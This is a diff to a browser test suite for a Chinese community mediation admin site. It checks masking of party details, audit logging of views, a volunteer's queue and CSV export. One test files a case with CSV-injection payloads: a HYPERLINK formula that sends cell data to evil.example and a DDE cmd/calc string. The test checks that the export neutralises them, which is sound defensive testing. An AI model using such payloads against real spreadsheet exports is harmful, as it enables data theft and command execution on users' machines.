@@ -88,7 +88,17 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     await p.getByRole('status').filter({ hasText: '已完成：签收' }).waitFor();
     await p.locator('.badges .status-in_progress').waitFor();
 
+    // The parties' details are masked until asked for; the agreement needs them in full.
+    const facts = p.locator('.case-grid section').first();
+    expect(await facts.innerText()).toContain('吴**，139****0001');
+    expect(await facts.innerText()).not.toContain('13912340001');
     await p.locator('details.action-record_agreement > summary').click();
+    await p.getByText('协议书要写入当事人的完整信息').waitFor();
+    await p.getByRole('button', { name: '显示', exact: true }).click();
+    await expect.poll(() => facts.innerText()).toContain('吴先生，13912340001');
+    expect(await facts.innerText()).toContain('已显示完整信息，已记入查阅记录');
+    const agreementForm = p.locator('details.action-record_agreement');
+    if ((await agreementForm.getAttribute('open')) === null) await agreementForm.locator('summary').click();
     await p.getByLabel('协议内容（每行一条）').fill('郑丽负责维修卫生间防水层。\n郑丽赔偿吴建华天花板修复费用人民币一千五百元。');
     await p.getByLabel('履行方式').fill('维修完成后当面付清赔偿款');
     await p.getByLabel('履行期限').fill(CHINA_DAY(30));
@@ -98,7 +108,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     await p.getByRole('link', { name: '查看 / 打印调解协议书' }).click();
     await p.getByRole('heading', { name: '人民调解协议书' }).waitFor();
     const agreement = await p.locator('article.agreement').innerText();
-    for (const text of ['申请人：吴建华', '被申请人：郑丽', '一、郑丽负责维修卫生间防水层', '二、郑丽赔偿', '维修完成后当面付清赔偿款', '张桂兰（联户长）', '幸福社区人民调解委员会（印章）']) {
+    for (const text of ['申请人：吴建华，联系电话 13912340001', '被申请人：郑丽', '一、郑丽负责维修卫生间防水层', '二、郑丽赔偿', '维修完成后当面付清赔偿款', '张桂兰（联户长）', '幸福社区人民调解委员会（印章）']) {
       expect(agreement).toContain(text);
     }
     await p.emulateMedia({ media: 'print' });
@@ -247,6 +257,9 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     }
     await perform(compound, 'schedule_session', (f) => f.getByLabel('时间').fill(`${CHINA_DAY(1)}T10:00`));
     await perform(compound, 'record_minutes', (f) => f.getByLabel('调解笔录').fill('双方陈述各自理由，同意共同承担维修费。'));
+    // A party has a phone: the agreement is made from their details in full, so the page asks for them first.
+    await compound.getByRole('button', { name: '显示', exact: true }).click();
+    await compound.getByText('已显示完整信息').waitFor();
     await perform(compound, 'record_agreement', async (f) => {
       await f.getByLabel('协议内容（每行一条）').fill('双方各承担一半维修费用。');
       await f.getByLabel('履行方式').fill('现金支付');
@@ -300,6 +313,9 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     await open(volunteer, c.id);
     expect(await actions(volunteer)).toEqual(['accept', 'decline']);
     await perform(volunteer, 'decline', (f) => f.getByLabel('谢绝原因').fill('本周不在本地'));
+    // Declined, the task is no longer theirs: the page goes back to their queue, where it is gone.
+    await volunteer.getByRole('heading', { name: '我的待办' }).waitFor();
+    expect(await volunteer.locator('table.cases', { hasText: c.trackingNo }).count()).toBe(0);
     expect(await actions(volunteer)).toEqual([]);
 
     const d = await fileCase({ center: 'welfare', description: '同一位老人的探访需求（重复反映）。', reporter: { phone: '13912340014' }, location: { unitId: 'hp-xf' } });
@@ -310,7 +326,9 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     await open(community, e.id);
     await perform(community, 'withdraw', (f) => f.getByLabel('撤回原因（如群众主动撤回）').fill('群众来电撤回'));
 
-    const states = await Promise.all([a, b, c, d, e].map(async (x) => (await call(stack, 'GET', `/v1/cases/${x.id}`)).body));
+    // Read as the township's officer: the hotline that filed them is not shown the minutes.
+    const officer = { headers: { authorization: `Bearer ${await login(stack, 'township-mediator')}` } };
+    const states = await Promise.all([a, b, c, d, e].map(async (x) => (await call(stack, 'GET', `/v1/cases/${x.id}`, officer)).body));
     expect(states.map((s) => s.status)).toEqual(['pending', 'pending', 'pending', 'merged', 'withdrawn']);
     expect(states[0]).toMatchObject({ center: 'mediation', risk: { level: 'yellow' }, location: { address: '阳光小区中心花园' }, followUp: { satisfaction: 'basically_satisfied' } });
     expect(states[0].sessions[0].minutes).toContain('共同承担');
@@ -469,17 +487,27 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     await liaison.goto(`${stack.url}/admin/#/case/${filed.id}`);
     await liaison.locator('ol.timeline').waitFor();
     expect(await liaison.locator('details.audit-panel').count()).toBe(0);
+    // Masked until 显示: only that is recorded.
+    expect(await liaison.locator('.case-grid').innerText()).toContain('钱**，139****0021');
+    await liaison.getByRole('button', { name: '显示', exact: true }).click();
+    await expect.poll(() => liaison.locator('.case-grid').innerText()).toContain('钱女士，13912340021');
 
     const p = await page();
     await signIn(p, stack.url, 'township-mediator', stack.password);
     await p.goto(`${stack.url}/admin/#/case/${filed.id}`);
     await p.locator('details.audit-panel > summary').click();
     const trail = p.locator('ol.audit');
+    await expect.poll(() => trail.locator('li').count()).toBe(1);
+    await p.getByRole('button', { name: '显示', exact: true }).click();
+    await p.getByText('已显示完整信息').waitFor();
+    await p.locator('details.audit-panel > summary').click();
+    await p.locator('details.audit-panel > summary').click();
     await expect.poll(() => trail.locator('li').count()).toBe(2);
     const text = await trail.innerText();
     expect(text).toContain('building-mediator（联户长 · 1栋）');
     expect(text).toContain('township-mediator（矛调中心工作人员 · 和平街道）');
     expect(text).toContain('查看了反映人和当事人的完整信息');
+    await screenshot(p, 'case-audit');
   });
 
   it('the header box finds a case by its number and a caller\'s cases by phone', async () => {
@@ -511,6 +539,8 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
 
   it('exports the filtered subtree as a CSV for the monthly report, without the reporter\'s details', async () => {
     const filed = await fileCase({ title: '宠物噪音扰邻', description: '邻居家的狗夜间吠叫。', reporter: { name: '卫女士', phone: '13912340041' }, location: { unitId: 'hp-xf-cy-1' } });
+    // A description written as a spreadsheet formula, as an attacker would send it.
+    const formula = await fileCase({ title: '=HYPERLINK("http://evil.example/?x="&A1,"详情")', description: '@SUM(1+1)*cmd|\' /C calc\'!A0', location: { unitId: 'hp-xf-cy-1' } });
     const p = await page();
     await signIn(p, stack.url, 'community-mediator', stack.password);
     await p.goto(`${stack.url}/admin/#/cases?center=mediation`);
@@ -532,6 +562,9 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     expect(row).toContain(',12345 热线,民事调解,宠物噪音扰邻,邻居家的狗夜间吠叫。,和平街道 幸福社区 翠苑小区 1栋,和平街道 幸福社区 翠苑小区 1栋,楼栋,待签收,');
     expect(text).not.toContain('13912340041');
     expect(text).not.toContain('卫女士');
+    // Neutralised: the cells start with ', so Excel and WPS show them as text and run nothing.
+    const neutralised = lines.find((l) => l.startsWith(`${formula.trackingNo},`));
+    expect(neutralised).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""详情"")",'@SUM(1+1)*cmd|' /C calc'!A0,`);
   });
 
   it('a resident follows the link in the receipt, enters the 提取码 and sees the progress on a phone', async () => {
